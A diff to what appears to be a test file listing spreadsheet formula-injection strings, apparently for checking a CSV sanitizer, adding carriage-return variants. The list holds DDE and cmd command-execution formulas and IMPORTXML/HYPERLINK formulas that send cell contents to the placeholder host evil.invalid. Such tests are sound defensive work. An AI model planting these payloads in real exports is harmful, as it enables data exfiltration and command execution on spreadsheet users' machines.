@@ -129,7 +129,8 @@ FORMULAS = (
     "=1+1", '=HYPERLINK("https://evil.invalid/ar","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
     "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1', "'=1+1", "%0A=1+1", "|calc",
     '=IMPORTXML(CONCAT("https://evil.invalid/as?",A1),"//x")', "-2+3+cmd|' /C calc'!D2", "=1,=2", "=1;=2", '=1","=2',
-    '=DDE("cmd";"/C calc";"x")', "\u200b=1+1", "\ufeff=1+1", "x\n=1+1",
+    '=DDE("cmd";"/C calc";"x")', "\u200b=1+1", "\ufeff=1+1", "x\n=1+1", "x\r=1+1",
+    'x\r"=1+1',
 )  # fmt: skip
 
 LETTERS = (
